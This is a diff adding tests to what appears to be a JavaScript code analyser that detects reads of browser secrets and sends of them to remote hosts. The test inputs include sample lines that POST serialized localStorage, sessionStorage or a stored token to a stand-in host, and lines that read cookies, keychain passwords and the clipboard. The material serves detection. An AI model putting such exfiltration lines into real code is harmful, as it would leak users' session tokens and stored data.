@@ -137,11 +137,33 @@ describe("the environment", () => {
   });
 });
 
+describe("all that a page keeps for its address", () => {
+  test.each([
+    "JSON.stringify(localStorage)",
+    "JSON.stringify({ ...sessionStorage })",
+    "Object.assign({}, localStorage).token",
+    "Object.entries(window.localStorage).join()",
+    "localStorage.token",
+  ])("%s", (data) => {
+    const { lines } = read(`fetch("https://x.example/", { method: "POST", body: ${data} })`);
+    expect(lines.find((each) => each.startsWith("send"))).toContain("<browser-storage");
+  });
+
+  test("a store that a library is told to use is not what the library gives", () => {
+    const { lines } = read(
+      'const store = persist(() => localStorage); fetch("https://x.example/", { method: "POST", body: store.cart })',
+    );
+    expect(lines.join("\n")).not.toContain("browser-storage");
+  });
+});
+
 describe("other secrets", () => {
   test.each([
     ["require('keytar').getPassword('service', 'me')", "read-secret keychain service"],
     ["use(document.cookie)", "read-secret browser-storage"],
     ["localStorage.getItem('token')", "read-secret browser-storage"],
+    ["use(localStorage.token)", "read-secret browser-storage"],
+    ["use(window.sessionStorage['token'])", "read-secret browser-storage"],
     ["navigator.clipboard.readText()", "read-secret clipboard"],
     ["import clipboard from 'clipboardy'; clipboard.readSync()", "read-secret clipboard"],
     ["import clipboard from 'clipboardy'; clipboard.writeSync('a')", "write-clipboard a"],
